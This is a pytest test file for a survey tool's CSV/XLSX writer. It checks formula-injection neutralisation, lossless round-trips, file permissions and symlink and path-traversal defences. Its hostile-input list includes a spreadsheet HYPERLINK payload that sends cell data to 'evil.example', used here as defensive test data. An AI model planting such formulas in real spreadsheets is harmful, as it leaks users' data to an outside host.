"""The one writer of CSV/XLSX files: text stays text, files are whole, inputs are safe.

Issue 18 items 1, 4, 5 and 8: every text a respondent can type (formulas, tabs, CR, NUL,
right-to-left text, emoji) is written inert and read back by the tool exactly.
"""

from __future__ import annotations

import csv
import io
import os
import re
import stat
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from esslingen_lab.errors import OutputError
from esslingen_lab.files import (
    FORMULA_TRIGGERS,
    OutputFolder,
    excel_sheet_names,
    neutralise,
    restore,
    restore_frame,
    write_table,
    write_workbook,
    xlsx_escape,
    xlsx_unescape,
)
from esslingen_lab.surveys import read_table

ROOT = Path(__file__).resolve().parents[1]
HOSTILE = ['=HYPERLINK("http://evil.example/?d="&B2,"Details")', "+49 711 3512", "-2+3",
           "@SUM(A1:A9)", "\tTab", "\rCR vorne", "zwei\rZeilen", "Null\x00Byte",
           "'=schon maskiert", "''@doppelt", "שלום עולם", "Grüße 👍🏽", "_x0041_", "a,b;\"c\"",
           "-5", "3,5", "", " =mit Leerzeichen"]
# Text as respondents type it, with the characters that matter here made frequent.
TEXT = st.lists(st.one_of(st.sampled_from([*FORMULA_TRIGGERS, "'", '"', ",", ";", "\n", "\x00",
                                           "\u202e", "\u05e9", "😀", "_x0041_", "ß"]),
                          st.characters(blacklist_categories=("Cs",))), max_size=30).map("".join)


def csv_cells(path: Path, sep=",") -> list[list[str]]:
    """The cells of a CSV as a spreadsheet's CSV import sees them (no tool-specific undo)."""
    text = path.read_bytes().decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=sep))


def assert_inert_csv(path: Path, sep=",") -> None:
    for row in csv_cells(path, sep):
        for cell in row:
            if cell[:1] in FORMULA_TRIGGERS:
                # a plain number may stay: digits, a sign, a decimal point or comma ("-.5",
                # "+,0": hypothesis found these, written as numbers), an exponent; no letter
                assert re.fullmatch(r"[+-]?(\d+([.,]\d*)?|[.,]\d+)([eE][+-]?\d+)?", cell), cell


def assert_inert_xlsx(path: Path) -> None:
    book = openpyxl.load_workbook(path)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)


def test_neutralise_follows_owasp_and_restore_undoes_it():
    for trigger in FORMULA_TRIGGERS:
        assert neutralise(trigger + "x") == "'" + trigger + "x"
    assert neutralise("-5") == "-5" and neutralise("+3,5") == "+3,5"  # numbers are no formula
    assert neutralise("Bürgeramt") == "Bürgeramt" and neutralise("'s Ländle") == "'s Ländle"
    for text in HOSTILE:
        assert restore(neutralise(text)) == text


@given(TEXT)
def test_neutralise_and_xlsx_escape_are_lossless(text):
    assert restore(neutralise(text)) == text
    assert xlsx_unescape(xlsx_escape(text)) == text
    assert neutralise(text)[:1] not in FORMULA_TRIGGERS or re.fullmatch(
        r"[+-]?(\d+([.,]\d*)?|[.,]\d+)([eE][+-]?\d+)?", text)


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_hostile_text_round_trips_and_stays_inert(tmp_path, suffix):
    table = pd.DataFrame({"text": HOSTILE, "n": range(len(HOSTILE)),
                          "=kopf": ["x"] * len(HOSTILE)})
    path = write_table(table, tmp_path / f"out{suffix}")
    back = read_table(path)
    assert back["text"].tolist() == HOSTILE
    assert back["n"].tolist() == [str(i) for i in range(len(HOSTILE))]
    assert list(back.columns) == ["text", "n", "=kopf"]
    (assert_inert_csv if suffix == ".csv" else assert_inert_xlsx)(path)


@settings(max_examples=25, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(texts=st.lists(TEXT, min_size=1, max_size=6))
def test_random_text_through_every_writer_reads_back_unchanged_and_inert(tmp_path, texts):
    table = pd.DataFrame({"id": range(len(texts)), "text": texts})
    expected = list(texts)
    for suffix in (".csv", ".xlsx"):
        path = write_table(table, tmp_path / f"t{suffix}")
        assert read_table(path)["text"].tolist() == expected
        (assert_inert_csv if suffix == ".csv" else assert_inert_xlsx)(path)
    # semicolon CSV with BOM (what redact and the exports for Excel write)
    path = write_table(table, tmp_path / "semi.csv", sep=";", encoding="utf-8-sig")
    assert read_table(path)["text"].tolist() == expected
    assert_inert_csv(path, ";")
    book = write_workbook({"Blatt": table, "zwei": table.iloc[::-1]}, tmp_path / "b.xlsx")
    assert read_table(book, "zwei")["text"].tolist() == expected[::-1]
    assert_inert_xlsx(book)
    with OutputFolder(tmp_path / "folder") as folder:
        folder.table("tables/a.csv", table)
        folder.workbook("a.xlsx", {"a": table})
    assert read_table(tmp_path / "folder" / "tables" / "a.csv")["text"].tolist() == expected
    assert read_table(tmp_path / "folder" / "a.xlsx")["text"].tolist() == expected
    # typed reading (as the report's workbook does) gives the text back too
    typed = restore_frame(pd.read_csv(tmp_path / "t.csv", keep_default_na=False, dtype=str))
    assert typed["text"].tolist() == expected


def test_lone_cr_is_quoted_so_rows_stay_rows(tmp_path):
    texts = [f"Antwort {i}\rmit CR" if i % 7 == 0 else f"Antwort {i}" for i in range(60)]
    path = write_table(pd.DataFrame({"id": range(60), "text": texts}), tmp_path / "o.csv")
    assert len(pd.read_csv(path)) == 60 and len(csv_cells(path)) == 61
    assert read_table(path)["text"].tolist() == texts


def test_xlsx_output_works_and_keeps_numbers_as_numbers(tmp_path):
    path = write_table(pd.DataFrame({"a": [1, 2.5, None], "b": ["=1", "x", "y"]}),
                       tmp_path / "o.xlsx")
    sheet = openpyxl.load_workbook(path).active
    assert [c.value for c in sheet["A"]] == ["a", 1, 2.5, None]
    assert [(c.value, c.data_type) for c in sheet["B"]][1] == ("=1", "s")


def test_writer_refuses_inputs_folders_and_keeps_mode(tmp_path):
    source = tmp_path / "in.csv"
    source.write_text("a\n1\n", encoding="utf-8")
    with pytest.raises(OutputError, match="overwrite the input"):
        write_table(pd.DataFrame({"a": [2]}), source, inputs=[source])
    with pytest.raises(OutputError, match="overwrite the input"):
        write_table(pd.DataFrame({"a": [2]}), tmp_path / "." / "in.csv", inputs=[source])
    assert source.read_text(encoding="utf-8") == "a\n1\n"
    with pytest.raises(OutputError, match="folder"):
        write_table(pd.DataFrame({"a": [2]}), tmp_path)
    with pytest.raises(OutputError, match="does not exist"):
        write_table(pd.DataFrame({"a": [2]}), tmp_path / "nope" / "o.csv", create_folder=False)
    out = tmp_path / "shared.csv"
    out.write_text("old\n", encoding="utf-8")
    out.chmod(0o664)
    write_table(pd.DataFrame({"a": [2]}), out)
    assert stat.S_IMODE(out.stat().st_mode) == 0o664
    umask = os.umask(0o022)
    try:
        fresh = write_table(pd.DataFrame({"a": [2]}), tmp_path / "fresh.xlsx")
    finally:
        os.umask(umask)
    assert stat.S_IMODE(fresh.stat().st_mode) == 0o644  # not mkstemp's 0600


def test_output_folder_replaces_its_own_files_only(tmp_path):
    out = tmp_path / "out"
    with OutputFolder(out) as folder:
        folder.table("charts_a.csv", pd.DataFrame({"a": [1]}))
        folder.table("tables/t.csv", pd.DataFrame({"a": [1]}))
    with OutputFolder(out) as folder:
        folder.table("tables/t.csv", pd.DataFrame({"a": [2]}))
    assert sorted(p.relative_to(out).as_posix() for p in out.rglob("*") if p.is_file()) == [
        ".esslingen-lab-output", "tables/t.csv"]  # the stale file of the first run is gone
    foreign = tmp_path / "mine"
    foreign.mkdir()
    (foreign / "notizen.txt").write_text("wichtig", encoding="utf-8")
    with pytest.raises(OutputError, match="not empty"):
        with OutputFolder(foreign) as folder:
            folder.table("notizen.txt", pd.DataFrame({"a": [1]}))
    assert (foreign / "notizen.txt").read_text(encoding="utf-8") == "wichtig"
    with pytest.raises(RuntimeError):
        with OutputFolder(out) as folder:
            folder.table("tables/t.csv", pd.DataFrame({"a": [3]}))
            raise RuntimeError("half-way")
    assert read_table(out / "tables" / "t.csv")["a"].tolist() == ["2"]
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []


def test_no_module_writes_csv_or_xlsx_past_the_one_writer():
    offenders = []
    sources = [*(ROOT / "esslingen_lab").rglob("*.py"), *(ROOT / "notebooks").glob("*.ipynb")]
    for path in sources:
        if path.name == "files.py":
            continue
        text = path.read_text(encoding="utf-8")
        for pattern in (r"\.to_csv\(", r"\.to_excel\(", r"ExcelWriter\(", r"csv\.writer\(",
                        r"Workbook\("):
            if re.search(pattern, text):
                offenders.append(f"{path.relative_to(ROOT)}: {pattern}")
    assert offenders == []


@settings(max_examples=15, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(memo=TEXT, code=TEXT.filter(lambda t: t.strip() and ";" not in t))
def test_random_text_through_the_coding_export_reads_back(tmp_path, memo, code):
    from esslingen_lab.coding import CodingStore

    with CodingStore(tmp_path / "c.sqlite") as store:
        store.add_answers(["a1"], ["Termine beim Bürgeramt"])
        store.save_coding("=anna", "a1", [code], memo=memo)
        expected = store.codings()[["coder", "codes", "memo"]].iloc[0].tolist()
        for suffix in (".csv", ".xlsx"):
            back = read_table(store.export(tmp_path / f"e{suffix}"))
            assert back[["coder", "memo"]].iloc[0].tolist() == [expected[0], expected[2]]
            assert back["codes"].iloc[0] == ";".join(expected[1])


def test_output_folder_never_deletes_or_writes_outside_itself(tmp_path):
    from esslingen_lab.errors import OutputError
    from esslingen_lab.files import OutputFolder

    victim = tmp_path / "victim.txt"
    victim.write_text("precious", encoding="utf-8")
    out = tmp_path / "out"
    with OutputFolder(out) as folder:
        folder.table("tables/items.csv", pd.DataFrame({"a": [1]}))
    # a planted marker line naming a file elsewhere, and a subfolder swapped for a link
    marker = out / ".esslingen-lab-output"
    marker.write_text(marker.read_text(encoding="utf-8") + f"{victim}\n../victim.txt\n",
                      encoding="utf-8")
    with OutputFolder(out) as folder:
        folder.table("other.csv", pd.DataFrame({"a": [2]}))
    assert victim.read_text(encoding="utf-8") == "precious"
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "items.csv").write_text("precious", encoding="utf-8")
    (out / "tables").mkdir(exist_ok=True)
    (out / "tables").rmdir()
    (out / "tables").symlink_to(elsewhere, target_is_directory=True)
    with pytest.raises(OutputError, match="symbolic link"):
        with OutputFolder(out) as folder:
            folder.table("tables/items.csv", pd.DataFrame({"a": [3]}))
    assert (elsewhere / "items.csv").read_text(encoding="utf-8") == "precious"


def test_sheet_names_are_valid_unique_and_open_in_excel(tmp_path):
    names = ["Befragte je Gruppe: Stadtteil [Anteil in %]", "befragte je gruppe_ stadtteil _",
             "a/b\\c?d*e", "", "'zitiert'", "x" * 40, "X" * 40, "Tabelle"]
    sheets = excel_sheet_names(names)
    assert len({s.lower() for s in sheets}) == len(names)
    assert all(0 < len(s) <= 31 and not re.search(r"[\[\]:*?/\\]", s) for s in sheets)
    assert sheets[1].endswith("~2") and sheets[6].endswith("~2") and sheets[7] == "Tabelle~2"
    assert sheets[4] == "zitiert"  # Excel refuses a name starting or ending with '
    path = write_workbook({s: pd.DataFrame({"n": [i]}) for i, s in enumerate(sheets)},
                          tmp_path / "b.xlsx")
    assert openpyxl.load_workbook(path).sheetnames == sheets


def test_one_list_of_yes_words():
    from esslingen_lab.defaults import NO_WORDS, YES_WORDS, is_yes

    assert all(is_yes(v) for v in ("Ja", " x ", "1", 1, True, "✓", "wahr", "YES"))
    assert not any(is_yes(v) for v in ("nein", "0", "", None, "vielleicht", False))
    assert not YES_WORDS & NO_WORDS
